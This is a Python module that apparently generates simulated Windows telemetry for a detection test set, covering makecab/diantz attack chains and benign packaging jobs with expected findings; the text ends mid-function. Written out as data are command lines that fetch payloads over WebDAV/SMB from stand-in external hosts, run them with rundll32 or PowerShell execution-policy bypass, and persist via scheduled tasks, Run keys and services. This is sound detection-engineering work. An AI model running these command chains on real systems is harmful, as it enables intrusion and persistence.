"""Attack chains and benign packaging jobs, each with the telemetry real Windows produces.

A scenario is data (``Job``): who runs which cabinet maker from which parent, what it reads
(SMB, WebDAV, local), where the cabinet goes, what follows. ``run_job`` turns it into events
on the host, the file server and the network sensors, writes its artifacts and returns the
ground-truth record for the manifest. Expected findings are derived from the same data, so
the manifest cannot drift from what was generated.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

from cabhunt.simulate import background, sysmon
from cabhunt.simulate.activity import SYSTEM32, Activity
from cabhunt.simulate.artifacts import ArtifactStore, build_cab, member_content, sha256
from cabhunt.simulate.entities import Host, Proc, iso_ms
from cabhunt.simulate.fleet import DNS_SUFFIX, Fleet
from cabhunt.simulate.netrec import is_internal
from cabhunt.simulate.writers.common import logged_guid

MAKECAB = f"{SYSTEM32}\\makecab.exe"
DIANTZ = f"{SYSTEM32}\\diantz.exe"
FS = f"FS01.{DNS_SUFFIX}"
RULE_IDS = {"makecab_download_cab": "CNC-E-2726320-168", "makecab_network": "CNC-E-2726320-168",
            "diantz_network": "CNC-E-2726320-142", "diantz_download_cab": "CNC-E-2726320-143"}


@dataclass(slots=True)
class Source:
    """One file the job reads: ``kind`` smb | webdav | local; ``path`` is the file's path on the source."""

    kind: str
    host: str = ""
    ip: str = ""
    port: int = 445
    ssl: bool = False
    share: str = ""
    path: str = ""  # share-relative (smb), URL path (webdav) or local path
    size: int = 0
    content: bytes = b""


@dataclass(slots=True)
class Job:
    name: str
    kind: str  # attack | benign
    verdict: str  # malicious | suspicious | benign | suppressed
    description: str
    target: str  # ws | build | wsus
    maker: str = "makecab"
    image: str = MAKECAB
    original: str | None = None
    parent: str = "cmd"  # cmd | powershell | wscript | mshta | winword | build | iexpress | tiworker | task
    command: str = ""  # makecab command line (argv[0] included)
    sources: list[Source] = field(default_factory=list)
    cab: str = ""
    ddf: tuple[str, str] | None = None  # (windows path, text)
    mapped: tuple[str, str, str] | None = None  # (drive, server, share)
    own_conn: bool = False
    followon: tuple[str, ...] = ()
    allowlist: dict[str, Any] | None = None
    zone_url: str | None = None
    extra_findings: tuple[str, ...] = ()
    campaign: str | None = None  # jobs of one campaign pull the same payload from the same place


def _u(host: Host) -> str:
    return f"C:\\Users\\{host.user}"


def _is_ip(h: str) -> bool:
    """IPv4 literal or a Windows IPv6 literal name (``2001-db8--1.ipv6-literal.net``)."""
    return (h.replace(".", "").isdigit() and h.count(".") == 3) or h.lower().endswith(".ipv6-literal.net")


def jobs(fleet: Fleet, start: datetime) -> list[tuple[Job, Host]]:
    """The scenario catalogue, each placed on a host (spread over workstations and formats)."""
    ws = fleet.workstations
    out: list[tuple[Job, Host]] = []

    def pick(i: int) -> Host:
        return ws[i % len(ws)]

    def add(job: Job, host: Host) -> None:
        out.append((job, host))

    h = pick(0)
    t = f"{_u(h)}\\AppData\\Local\\Temp"
    add(Job("webdav_ssl_makecab", "attack", "malicious",
            "makecab packs a tool pulled over WebDAV/SSL; extracted with expand, run, persisted by schtasks",
            "ws", command=f"makecab.exe \\\\cdn-sync-storage.net@SSL\\DavWWWRoot\\tools\\update.exe {t}\\upd.cab",
            sources=[Source("webdav", "cdn-sync-storage.net", "185.199.110.42", 443, True, "",
                            "/tools/update.exe")],
            cab=f"{t}\\upd.cab", zone_url="https://cdn-sync-storage.net/tools/update.exe",
            followon=("expand", "exec_exe", "schtasks"), campaign="cdn-sync"), h)
    for n, idx in ((2, 5), (3, 9)):
        h = pick(idx)
        t = f"{_u(h)}\\AppData\\Local\\Temp"
        add(Job(f"campaign_webdav_spread_{n}", "attack", "malicious",
                "the same WebDAV/SSL tool pull seen on another host (fleet spread of one campaign)",
                "ws", command=f"makecab.exe \\\\cdn-sync-storage.net@SSL\\DavWWWRoot\\tools\\update.exe {t}\\upd.cab",
                sources=[Source("webdav", "cdn-sync-storage.net", "185.199.110.42", 443, True, "",
                                "/tools/update.exe")],
                cab=f"{t}\\upd.cab", zone_url="https://cdn-sync-storage.net/tools/update.exe",
                followon=("expand", "exec_exe"), campaign="cdn-sync"), h)
    h = pick(1)
    add(Job("webdav_port_ip_diantz", "attack", "malicious",
            "diantz reads a DLL from a WebDAV server on an IP literal and port 8080; rundll32 runs it",
            "ws", maker="diantz", image=DIANTZ,
            command="diantz.exe \\\\185.62.190.41@8080\\share\\payload.dll C:\\Users\\Public\\p.cab",
            sources=[Source("webdav", "185.62.190.41", "185.62.190.41", 8080, False, "", "/share/payload.dll")],
            cab="C:\\Users\\Public\\p.cab", zone_url="http://185.62.190.41:8080/share/payload.dll",
            followon=("extrac32", "exec_rundll32", "runkey")), h)
    h = pick(2)
    add(Job("webdav_ssl443_powershell", "attack", "malicious",
            "PowerShell runs makecab on a script from \\\\host@SSL@443, then executes the extracted script",
            "ws", parent="powershell",
            command="\"C:\\Windows\\system32\\makecab.exe\" \\\\files.example-storage.com@SSL@443\\DavWWWRoot\\a\\stage.ps1 "
                    "C:\\ProgramData\\stage.cab",
            sources=[Source("webdav", "files.example-storage.com", "172.67.141.20", 443, True, "", "/a/stage.ps1")],
            cab="C:\\ProgramData\\stage.cab", zone_url="https://files.example-storage.com/a/stage.ps1",
            followon=("expand", "exec_ps")), h)
    h = pick(3)
    peer = ws[(3 + 1) % len(ws)] if len(ws) > 1 else fleet.buildserver
    add(Job("smb_ip_literal_makecab", "attack", "suspicious",
            "makecab copies a binary from another workstation's admin share addressed by raw IP",
            "ws", command=f"makecab \\\\{peer.ip}\\C$\\Windows\\Temp\\svcupd.exe C:\\Users\\Public\\svcupd.cab",
            sources=[Source("smb", peer.ip, peer.ip, 445, False, "C$", "Windows\\Temp\\svcupd.exe")],
            cab="C:\\Users\\Public\\svcupd.cab"), h)
    h = pick(4)
    add(Job("smb_name_fileserver_scratch", "attack", "suspicious",
            "makecab reads psexec from a scratch share on the file server (4624 type 3 / 5140 / 5145 there)",
            "ws", command=f"makecab.exe \\\\{FS}\\scratch\\tools\\psexec.exe {_u(h)}\\Downloads\\ps.cab",
            sources=[Source("smb", FS, fleet.fileserver.ip, 445, False, "scratch", "tools\\psexec.exe")],
            cab=f"{_u(h)}\\Downloads\\ps.cab"), h)
    h = pick(5)
    t = f"{_u(h)}\\AppData\\Local\\Temp"
    names = ("svchost.exe", "config.ini", "stage.ps1")
    ddf = (f"{t}\\build.ddf",
           "; generated\r\n.OPTION EXPLICIT\r\n.Set CabinetNameTemplate=report.cab\r\n"
           f".Set DiskDirectoryTemplate={t}\r\n.Set SourceDir=\\\\files.corp-backup.net\\drop\r\n"
           ".Set Cabinet=on\r\n.Set Compress=on\r\n.Set CompressionType=MSZIP\r\n.Set MaxDiskSize=0\r\n"
           + "".join(f"{n}\r\n" for n in names))
    add(Job("ddf_remote_sourcedir", "attack", "malicious",
            "PowerShell writes a DDF whose SourceDir is an external SMB share and runs makecab /F on it",
            "ws", parent="powershell", command=f"makecab.exe /F {t}\\build.ddf",
            sources=[Source("smb", "files.corp-backup.net", "45.137.21.9", 445, False, "drop", n) for n in names],
            cab=f"{t}\\report.cab", ddf=ddf, followon=("expand", "exec_ps", "service")), h)
    h = pick(6)
    kit = [f"m{i:02d}.dll" for i in range(11)] + ["loader.ps1"]
    ddf2 = ("C:\\ProgramData\\x.ddf",
            ".Set CabinetNameTemplate=kit.cab\r\n.Set DiskDirectoryTemplate=C:\\ProgramData\r\n"
            ".Set Compress=on\r\n"
            + "".join(f"\\\\45.61.136.80@SSL\\DavWWWRoot\\kit\\{n}\r\n" for n in kit))
    add(Job("ddf_lowercase_f_bulk_webdav", "attack", "malicious",
            "diantz -f with a DDF listing twelve files from a WebDAV IP literal over SSL",
            "ws", maker="diantz", image=DIANTZ, parent="wscript", command="diantz -f C:\\ProgramData\\x.ddf",
            sources=[Source("webdav", "45.61.136.80", "45.61.136.80", 443, True, "", f"/kit/{n}") for n in kit],
            cab="C:\\ProgramData\\kit.cab", ddf=ddf2), h)
    h = pick(7)
    add(Job("define_sourcedir_smb", "attack", "suspicious",
            "makecab /D SourceDir=\\\\nas-old\\pub: a remote source with no UNC in the source argument",
            "ws", command="makecab /D SourceDir=\\\\nas-old.corp.example.com\\pub\\ /D CompressionType=LZX agent.exe "
                          "C:\\Users\\Public\\agent.cab",
            sources=[Source("smb", "nas-old.corp.example.com", "10.20.9.50", 445, False, "pub", "agent.exe")],
            cab="C:\\Users\\Public\\agent.cab"), h)
    h = pick(8)
    add(Job("ads_output", "attack", "malicious",
            "makecab writes the cabinet into an alternate data stream of a text file",
            "ws", command=f"makecab \\\\{FS}\\public\\tool.exe C:\\Users\\Public\\notes.txt:payload.cab",
            sources=[Source("smb", FS, fleet.fileserver.ip, 445, False, "public", "tool.exe")],
            cab="C:\\Users\\Public\\notes.txt:payload.cab"), h)
    h = pick(9)
    add(Job("renamed_makecab", "attack", "malicious",
            "a renamed copy of makecab (OriginalFileName MAKECAB.EXE) outside System32 pulls over WebDAV",
            "ws", image="C:\\Users\\Public\\svc.exe", original="MAKECAB.EXE",
            command="C:\\Users\\Public\\svc.exe \\\\91.243.59.12@SSL\\DavWWWRoot\\x.exe C:\\Users\\Public\\x.cab",
            sources=[Source("webdav", "91.243.59.12", "91.243.59.12", 443, True, "", "/x.exe")],
            cab="C:\\Users\\Public\\x.cab", zone_url="https://91.243.59.12/x.exe"), h)
    h = pick(10)
    add(Job("renamed_diantz_mshta", "attack", "malicious",
            "mshta launches a renamed diantz (OriginalFileName DIANTZ.EXE) reading from an external SMB host",
            "ws", maker="diantz", image=f"{_u(h)}\\AppData\\Roaming\\cab.exe", original="DIANTZ.EXE",
            parent="mshta",
            command=f"\"{_u(h)}\\AppData\\Roaming\\cab.exe\" \\\\update-mirror.net\\pub\\setup.exe "
                    f"{_u(h)}\\AppData\\Roaming\\s.cab",
            sources=[Source("smb", "update-mirror.net", "185.220.101.45", 445, False, "pub", "setup.exe")],
            cab=f"{_u(h)}\\AppData\\Roaming\\s.cab", followon=("expand", "exec_exe")), h)
    h = pick(11)
    add(Job("office_parent_makecab", "attack", "malicious",
            "Word spawns makecab reading a script from WebDAV (macro staging)",
            "ws", parent="winword",
            command=f"makecab.exe \\\\docs-preview.com@SSL\\DavWWWRoot\\m\\invoice.ps1 {_u(h)}\\AppData\\Local\\Temp\\i.cab",
            sources=[Source("webdav", "docs-preview.com", "104.21.64.7", 443, True, "", "/m/invoice.ps1")],
            cab=f"{_u(h)}\\AppData\\Local\\Temp\\i.cab", zone_url="https://docs-preview.com/m/invoice.ps1",
            followon=("expand", "exec_ps", "runkey")), h)
    h = pick(12)
    add(Job("mapped_drive_makecab", "attack", "suspicious",
            "net use X: maps an IT share, then makecab packs X:\\tool.exe",
            "ws", command=f"makecab X:\\tool.exe {_u(h)}\\AppData\\Local\\Temp\\t.cab",
            sources=[Source("smb", FS, fleet.fileserver.ip, 445, False, "it-tools", "tool.exe")],
            cab=f"{_u(h)}\\AppData\\Local\\Temp\\t.cab", mapped=("X:", FS, "it-tools")), h)
    h = pick(13)
    add(Job("makecab_internal_connection", "attack", "suspicious",
            "makecab itself shows a network connection (EID 3) to an internal host on 445",
            "ws", command="makecab \\\\10.20.5.21\\deploy\\pkg.msi C:\\Users\\Public\\pkg.cab",
            sources=[Source("smb", "10.20.5.21", "10.20.5.21", 445, False, "deploy", "pkg.msi")],
            cab="C:\\Users\\Public\\pkg.cab", own_conn=True), h)
    h = pick(14)
    add(Job("diantz_external_connection", "attack", "malicious",
            "diantz with its own connection to an external SMB server addressed by IP",
            "ws", maker="diantz", image=DIANTZ,
            command="diantz.exe \\\\45.137.21.9\\files\\kit.exe C:\\Users\\Public\\kit.cab",
            sources=[Source("smb", "45.137.21.9", "45.137.21.9", 445, False, "files", "kit.exe")],
            cab="C:\\Users\\Public\\kit.cab", own_conn=True, followon=("expand", "exec_exe", "service")), h)
    h = pick(16)
    add(Job("unc_long_path_makecab", "attack", "suspicious",
            "makecab reads through the \\\\?\\UNC\\ long-path form of a file-server path",
            "ws", command=f"makecab \\\\?\\UNC\\{FS}\\scratch\\drop\\rclone.exe C:\\Users\\Public\\rc.cab",
            sources=[Source("smb", FS, fleet.fileserver.ip, 445, False, "scratch", "drop\\rclone.exe")],
            cab="C:\\Users\\Public\\rc.cab"), h)
    h = pick(17)
    add(Job("forward_slash_unc_makecab", "attack", "suspicious",
            "makecab with a forward-slash UNC path (//host/share/file) to an unknown server",
            "ws", command=f"makecab //files-eu.corp-partner.com/pub/sync.exe {_u(h)}\\Downloads\\sync.cab",
            sources=[Source("smb", "files-eu.corp-partner.com", "81.169.145.93", 445, False, "pub", "sync.exe")],
            cab=f"{_u(h)}\\Downloads\\sync.cab"), h)
    h = pick(18)
    add(Job("ipv6_literal_makecab", "attack", "suspicious",
            "makecab reads from an IPv6 literal UNC name (fd00-20--50.ipv6-literal.net)",
            "ws", command="makecab \\\\fd00-20--50.ipv6-literal.net\\share\\tool.exe C:\\Users\\Public\\v6.cab",
            sources=[Source("smb", "fd00-20--50.ipv6-literal.net", "fd00:20::50", 445, False, "share", "tool.exe")],
            cab="C:\\Users\\Public\\v6.cab"), h)
    b = fleet.buildserver
    add(Job("allowlisted_swdist_share", "benign", "suppressed",
            "the build server packages the agent from the software distribution share (allowlisted)",
            "build", parent="build",
            command=f"makecab.exe \\\\{FS}\\swdist\\agent\\CorpAgent.msi C:\\build\\release\\CorpAgent.cab",
            sources=[Source("smb", FS, fleet.fileserver.ip, 445, False, "swdist", "agent\\CorpAgent.msi")],
            cab="C:\\build\\release\\CorpAgent.cab",
            allowlist={"id": "AL-0001", "reason": "Nightly agent packaging from the software distribution share",
                       "owner": "it-build@corp.example.com", "valid_from": (start - timedelta(days=90)).isoformat(),
                       "valid_until": (start + timedelta(days=365)).isoformat(),
                       "match": {"host": b.name, "share_prefix": f"\\\\{FS}\\swdist\\"}}), b)
    h = pick(15)
    add(Job("expired_allowlist_legacy_pkg", "attack", "suspicious",
            "a scheduled inventory job packs from a legacy share whose allowlist entry has expired",
            "ws", parent="task",
            command=f"makecab \\\\{FS}\\legacy-pkg\\inventory\\inv.exe C:\\ProgramData\\Inventory\\inv.cab",
            sources=[Source("smb", FS, fleet.fileserver.ip, 445, False, "legacy-pkg", "inventory\\inv.exe")],
            cab="C:\\ProgramData\\Inventory\\inv.cab",
            allowlist={"id": "AL-0002", "reason": "Legacy inventory packaging (retired with the old agent)",
                       "owner": "desktop-eng@corp.example.com",
                       "valid_from": (start - timedelta(days=400)).isoformat(),
                       "valid_until": (start + timedelta(days=2)).isoformat(),
                       "match": {"share_prefix": f"\\\\{FS}\\legacy-pkg\\"}}), h)
    base = "C:\\build\\PrinterDriver\\pkg"
    drv = ("corpprn.sys", "corpprn.inf", "corpprn.cat")
    add(Job("build_driver_packaging", "benign", "benign",
            "msbuild packages a driver with makecab /F and a local DDF (hardware dashboard submission)",
            "build", parent="build", command=f"makecab /f {base}\\PrinterDriver.ddf",
            sources=[Source("local", path=f"{base}\\x64\\{n}") for n in drv],
            cab=f"{base}\\disk1\\PrinterDriver.cab",
            ddf=(f"{base}\\PrinterDriver.ddf",
                 ".OPTION EXPLICIT\r\n.Set CabinetFileCountThreshold=0\r\n.Set FolderFileCountThreshold=0\r\n"
                 ".Set FolderSizeThreshold=0\r\n.Set MaxCabinetSize=0\r\n.Set MaxDiskFileCount=0\r\n"
                 ".Set MaxDiskSize=0\r\n.Set CompressionType=MSZIP\r\n.Set Cabinet=on\r\n.Set Compress=on\r\n"
                 ".Set CabinetNameTemplate=PrinterDriver.cab\r\n.Set DestinationDir=PrinterDriver\r\n"
                 f".Set DiskDirectoryTemplate={base}\\disk1\r\n"
                 + "".join(f"{base}\\x64\\{n}\r\n" for n in drv))), b)
    sed_tmp = f"C:\\Users\\{b.user}\\AppData\\Local\\Temp\\IXP000.TMP"
    add(Job("iexpress_packaging", "benign", "benign",
            "IExpress builds a self-extracting installer; it runs makecab on its own temporary DDF",
            "build", parent="iexpress", command=f"makecab.exe /f \"{sed_tmp}\\~SED0001.DDF\"",
            sources=[Source("local", path=f"C:\\build\\Installer\\{n}") for n in ("setup.exe", "readme.txt")],
            cab=f"{sed_tmp}\\~SED0001.CAB",
            ddf=(f"{sed_tmp}\\~SED0001.DDF",
                 ".Set CabinetNameTemplate=~SED0001.CAB\r\n.Set CompressionType=MSZIP\r\n.Set Cabinet=ON\r\n"
                 f".Set DiskDirectoryTemplate={sed_tmp}\r\n.Set InfFileName=~SED0001.INF\r\n"
                 '"C:\\build\\Installer\\setup.exe"\r\n"C:\\build\\Installer\\readme.txt"\r\n')), b)
    add(Job("cbs_log_rotation", "benign", "benign",
            "TiWorker compresses a persisted CBS log with makecab (servicing stack housekeeping)",
            "wsus", parent="tiworker", command=""), fleet.wsus)
    return out


def _findings(job: Job, dns_used: bool) -> list[str]:
    f: list[str] = []
    base = job.image.rsplit("\\", 1)[-1].lower()
    if job.original and job.original.lower() != base:
        f.append("image.renamed")
    if not job.image.lower().startswith(("c:\\windows\\system32\\", "c:\\windows\\syswow64\\")):
        f.append("image.unexpected_path")
    if job.parent in ("powershell", "wscript", "mshta", "winword"):
        f.append("parent.suspicious")
    kinds = {s.kind for s in job.sources}
    remote = [s for s in job.sources if s.kind != "local"]
    if "smb" in kinds:
        f.append("source.smb")
    if "webdav" in kinds:
        f.append("source.webdav")
    if any(_is_ip(s.host) for s in remote):
        f.append("source.ip_literal")
    if any(not is_internal(s.ip) for s in remote):
        f.append("source.external")
    if any(s.kind == "webdav" and s.port not in (80, 443) for s in remote):
        f.append("source.nonstandard_port")
    if job.ddf:
        f.append("ddf.referenced")
        if remote:
            f.append("ddf.remote_source")
        if len(remote) >= 10:
            f.append("ddf.bulk_sources")
    low = job.cab.lower()
    if any(x in low for x in ("\\users\\", "\\programdata\\", "\\temp\\", "\\appdata\\")):
        f.append("cabinet.user_writable")
    if low.count(":") > 1:
        f.append("cabinet.ads")
    if job.mapped:
        f.append("net.share_mapped")
    if remote:
        f.append("net.corroborated")
        if any(not is_internal(s.ip) for s in remote):
            f.append("net.external")
        if any(_is_ip(s.host) for s in remote):
            f.append("net.ip_literal")
        if any(s.kind == "webdav" and s.port not in (80, 443) for s in remote):
            f.append("net.nonstandard_port")
    if dns_used:
        f.append("dns.corroborated")
    if any(s.kind == "smb" and s.host == FS for s in remote):
        f.append("logon.type3")
    if "webdav" in kinds:
        f.extend(("proxy.corroborated", "webdav.client_activity"))
    if any(x in job.followon for x in ("expand", "extrac32")):
        f.append("followon.extraction")
    if any(x.startswith("exec_") for x in job.followon):
        f.append("followon.execution")
    if any(x in job.followon for x in ("schtasks", "runkey", "service")):
        f.append("followon.persistence")
    names = [s.path.rsplit("\\", 1)[-1].rsplit("/", 1)[-1].lower() for s in job.sources]
    if any(n.endswith((".exe", ".dll", ".sys", ".msi")) for n in names):
        f.extend(("cab.executable_member", "cab.high_entropy"))
    if any(n.endswith(".ps1") for n in names):
        f.append("cab.script_member")
    if any(n.endswith((".ini", ".txt")) for n in names) and job.kind == "attack":
        f.append("cab.secret")
    if job.verdict == "suppressed":
        f.append("allowlist.match")
    f.extend(job.extra_findings)
    return f


def _possible(job: Job, dns_used: bool) -> list[str]:
    """Findings true of the data by construction whose firing depends on fleet baselines and thresholds."""
    out: list[str] = []
    remote = [s for s in job.sources if s.kind != "local"]
    external = any(not is_internal(s.ip) for s in remote)
    if job.campaign:
        out.append("fleet.spread")
    elif external:
        out.append("fleet.rare_destination")
    if dns_used and external:
        out.append("dns.new_domain")
    if not job.image.lower().startswith("c:\\windows\\"):
        out.append("fleet.rare_process")
    return out


def _parent_proc(act: Activity, job: Job, ts: int) -> Proc:
    st = act.state
    h = act.host
    u = _u(h)
    ex = st.explorer
    if job.parent == "build" or job.parent == "iexpress":
        assert st.services is not None
        agent = act.spawn(st.services, "C:\\BuildAgent\\bin\\Agent.Listener.exe",
                          '"C:\\BuildAgent\\bin\\Agent.Listener.exe" run --startuptype service', ts - 9000)
        if job.parent == "iexpress":
            return act.spawn(agent, f"{SYSTEM32}\\iexpress.exe", "iexpress.exe /N /Q C:\\build\\Installer\\setup.sed",
                             ts - 4000, cwd="C:\\build\\Installer\\")
        return act.spawn(agent, f"{SYSTEM32}\\cmd.exe", 'C:\\Windows\\system32\\cmd.exe /d /c "C:\\build\\pack.cmd"',
                         ts - 4000, cwd="C:\\build\\")
    if job.parent == "task":
        sched = st.svchosts[2]
        return act.spawn(sched, f"{SYSTEM32}\\cmd.exe",
                         'C:\\Windows\\system32\\cmd.exe /c "C:\\ProgramData\\Inventory\\collect.cmd"', ts - 3000,
                         cwd=f"{SYSTEM32}\\")
    assert ex is not None
    if job.parent == "powershell":
        return act.spawn(ex, f"{SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe",
                         '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -WindowStyle Hidden',
                         ts - 6000, cwd=f"{u}\\")
    if job.parent == "wscript":
        return act.spawn(ex, f"{SYSTEM32}\\wscript.exe",
                         f'"C:\\Windows\\System32\\WScript.exe" "{u}\\Downloads\\invoice_0311.js"', ts - 5000,
                         cwd=f"{u}\\Downloads\\")
    if job.parent == "mshta":
        return act.spawn(ex, f"{SYSTEM32}\\mshta.exe",
                         f'"C:\\Windows\\System32\\mshta.exe" "{u}\\Downloads\\viewer.hta" ', ts - 5000,
                         cwd=f"{u}\\Downloads\\")
    if job.parent == "winword":
        img = f"{background.OFFICE16}\\WINWORD.EXE"
        return act.spawn(ex, img, f'"{img}" /n "{u}\\Downloads\\Invoice-2026-0311.docm" /o ""', ts - 20000,
                         cwd=f"{u}\\Downloads\\")
    return act.spawn(ex, f"{SYSTEM32}\\cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ', ts - 8000, cwd=f"{u}\\")


def run_job(act: Activity, job: Job, ts: int, store: ArtifactStore, rng: random.Random) -> dict[str, Any]:
    """Emit one scenario's events at ``ts`` on ``act``'s host; return its manifest record."""
    if job.parent == "tiworker":
        return _run_cbs(act, job, ts, store, rng)
    h = act.host
    parent = _parent_proc(act, job, ts)
    fmt = h.fmt
    u = _u(h)
    content_rng = random.Random(f"campaign:{job.campaign}") if job.campaign else rng
    for s in job.sources:
        name = s.path.rsplit("\\", 1)[-1].rsplit("/", 1)[-1]
        s.content = member_content(name, content_rng, "campaign" if job.campaign else h.name)
        s.size = len(s.content)
    if job.ddf:
        act.chunk.events.append(sysmon.file_create(ts - 1500, parent, job.ddf[0]))
        store.put(h.name, job.ddf[0], job.ddf[1].encode(), "ddf")
    if job.mapped:
        drive, srv, share = job.mapped
        net = act.spawn(parent, f"{SYSTEM32}\\net.exe", f"net use {drive} \\\\{srv}\\{share}", ts - 4000)
        act.spawn(net, f"{SYSTEM32}\\net1.exe", f"C:\\Windows\\system32\\net1 use {drive} \\\\{srv}\\{share}",
                  ts - 3980)
        fs = act.fleet.fileserver
        act.lookup(net, ts - 3900, srv.lower(), [fs.ip])
        act.smb_read(ts - 3800, fs, fs.ip, srv, share, "desktop.ini", 282)
    cwd = parent.cwd
    mk = act.spawn(parent, job.image, job.command, ts, cwd=cwd, original=job.original)
    t = ts + 150
    dns_used = False
    by_host: dict[tuple[str, int], list[Source]] = {}
    for s in job.sources:
        if s.kind != "local":
            by_host.setdefault((s.host, s.port), []).append(s)
    fs_host = act.fleet.fileserver
    for (host, port), group in by_host.items():
        first = group[0]
        if first.kind == "smb":
            if not _is_ip(host) and not job.mapped:
                act.lookup(mk, t, host.lower(), [first.ip])
                dns_used = True
            if job.own_conn:
                act.chunk.events.append(sysmon.net_connect(t + 40, mk, h.ip, act.port(), first.ip, 445,
                                                           dst_host="" if _is_ip(host) else host,
                                                           src_host=h.fqdn))
            server = fs_host if host == FS else None
            for s in group:
                t = act.smb_read(t + 60, server, s.ip, host, s.share, s.path, s.size)
        else:
            t = act.webdav(t + 60, host, first.ip, port, first.ssl, [(s.path, s.size) for s in group],
                           resolve=not _is_ip(host))
            dns_used = dns_used or not _is_ip(host)
            if job.own_conn:
                act.chunk.events.append(sysmon.net_connect(t, mk, h.ip, act.port(), first.ip, port, src_host=h.fqdn))
    when = datetime.fromtimestamp(ts / 1000, UTC)
    members = [(s.path.rsplit("\\", 1)[-1].rsplit("/", 1)[-1], s.content) for s in job.sources]
    cab_bytes = build_cab(members, when)
    t += 400
    if job.cab.count(":") > 1:
        act.chunk.events.append(sysmon.stream_hash(t, mk, job.cab, sysmon.sysmon_hashes(cab_bytes), "-"))
    else:
        act.chunk.events.append(sysmon.file_create(t, mk, job.cab))
        if job.zone_url:
            act.chunk.events.append(sysmon.stream_hash(
                t + 5, mk, job.cab + ":Zone.Identifier", sysmon.sysmon_hashes(cab_bytes),
                f"[ZoneTransfer]\r\nZoneId=3\r\nHostUrl={job.zone_url}\r\n"))
    cab_rec = store.put(h.name, job.cab, cab_bytes, "cab")
    cabinet: dict[str, Any] = {"path": job.cab, "sha256": cab_rec["sha256"], "artifact": cab_rec["path"]}
    store.refer(cab_rec, cabinet)
    _followons(act, job, parent, t + rng.randrange(20_000, 90_000), members, u)
    findings = _findings(job, dns_used)
    possible = _possible(job, dns_used)
    rules = []
    if any(s.kind != "local" for s in job.sources):
        rules.append(f"{job.maker}_download_cab")
    if job.own_conn:
        rules.append(f"{job.maker}_network")
    rule_ids = sorted({RULE_IDS[r] for r in rules})
    return {
        "name": job.name, "kind": job.kind, "description": job.description, "host": h.name, "host_fqdn": h.fqdn,
        "host_ip": h.ip, "log_format": fmt, "timestamp": iso_ms(ts),
        "process_entity_id": logged_guid(fmt, mk.guid), "process_guid": mk.guid, "pid": mk.pid,
        "image": mk.image, "original_file_name": mk.pe.original_file_name, "command_line": mk.cmd,
        "working_directory": mk.cwd, "parent_image": parent.image, "parent_command_line": parent.cmd,
        "parent_entity_id": logged_guid(fmt, parent.guid), "user": mk.logon.user,
        "expected_verdict": job.verdict, "expected_findings": findings, "possible_findings": possible, "campaign": job.campaign,
        "expected_rules": rules, "expected_rule_ids": rule_ids,
        "sources": [{"kind": s.kind, "host": s.host or None, "ip": s.ip or None,
                     "port": s.port if s.kind != "local" else None, "path": s.path, "sha256": sha256(s.content)}
                    for s in job.sources],
        "cabinet": cabinet,
        "directive_file": job.ddf[0] if job.ddf else None,
        "allowlist_entry": job.allowlist,
    }


def _followons(act: Activity, job: Job, shell: Proc, ts: int, members: list[tuple[str, bytes]], u: str) -> None:
    if not job.followon:
        return
    h = act.host
    cab = job.cab
    outdir = cab.rsplit("\\", 1)[0] + "\\" + cab.rsplit("\\", 1)[-1].split(".")[0]
    t = ts
    extracted = [f"{outdir}\\{n}" for n, _ in members]
    if "expand" in job.followon:
        ex = act.spawn(shell, f"{SYSTEM32}\\expand.exe", f"expand.exe -F:* {cab} {outdir}", t)
        for i, p in enumerate(extracted):
            act.chunk.events.append(sysmon.file_create(t + 200 + 30 * i, ex, p))
        t += 3000
    if "extrac32" in job.followon:
        outdir = cab.rsplit("\\", 1)[0]
        extracted = [f"{outdir}\\{n}" for n, _ in members]
        ex = act.spawn(shell, f"{SYSTEM32}\\extrac32.exe", f"extrac32.exe /Y /E /L {outdir} {cab}", t)
        for i, p in enumerate(extracted):
            act.chunk.events.append(sysmon.file_create(t + 200 + 30 * i, ex, p))
        t += 3000
    payload = next((p for p in extracted if p.lower().endswith((".exe", ".dll"))), extracted[0])
    script = next((p for p in extracted if p.lower().endswith(".ps1")), payload)
    runner: Proc | None = None
    if "exec_exe" in job.followon:
        runner = act.spawn(shell, payload, f'"{payload}" /silent', t, cwd=outdir + "\\")
    elif "exec_rundll32" in job.followon:
        runner = act.spawn(shell, f"{SYSTEM32}\\rundll32.exe", f"rundll32.exe {payload},DllRegisterServer", t)
    elif "exec_ps" in job.followon:
        runner = act.spawn(shell, f"{SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe",
                           f"powershell.exe -NoProfile -ExecutionPolicy Bypass -File {script}", t)
    if runner is not None:
        act.lookup(runner, t + 1500, "sync.cdn-update.net", ["91.215.85.17"])
        act.https(runner, t + 1600, "sync.cdn-update.net", "91.215.85.17", rb=4200)
        t += 5000
    target = payload
    if "schtasks" in job.followon:
        act.spawn(shell, f"{SYSTEM32}\\schtasks.exe",
                  f'schtasks /Create /SC ONLOGON /TN "OneDriveUpdate" /TR "{target}" /F', t)
    if "runkey" in job.followon:
        reg = act.spawn(shell, f"{SYSTEM32}\\reg.exe",
                        f'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ '
                        f'/d "rundll32.exe {target},DllRegisterServer" /f', t)
        act.chunk.events.append(sysmon.registry_set(
            t + 50, reg, f"HKU\\{h.user_sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
            f"rundll32.exe {target},DllRegisterServer"))
    if "service" in job.followon:
        act.spawn(shell, f"{SYSTEM32}\\sc.exe", f'sc.exe create UpdSvc binPath= "{target}" start= auto', t)
        st = act.state
        assert st.services is not None
        act.chunk.events.append(sysmon.registry_set(
            t + 80, st.services, "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc\\ImagePath", target))


def _run_cbs(act: Activity, job: Job, ts: int, store: ArtifactStore, rng: random.Random) -> dict[str, Any]:
    cab, mk = background.cbs_rotation(act, ts)
    assert isinstance(mk, Proc)
    h = act.host
    when = datetime.fromtimestamp(ts / 1000, UTC)
    log_name = cab.rsplit("\\", 1)[-1][:-4] + ".log"
    from cabhunt.simulate.artifacts import cbs_log

    cab_bytes = build_cab([(log_name, cbs_log(when, rng))], when)
    rec = store.put(h.name, cab, cab_bytes, "cab")
    cabinet: dict[str, Any] = {"path": cab, "sha256": rec["sha256"], "artifact": rec["path"]}
    store.refer(rec, cabinet)
    parent = mk.parent
    assert parent is not None
    return {
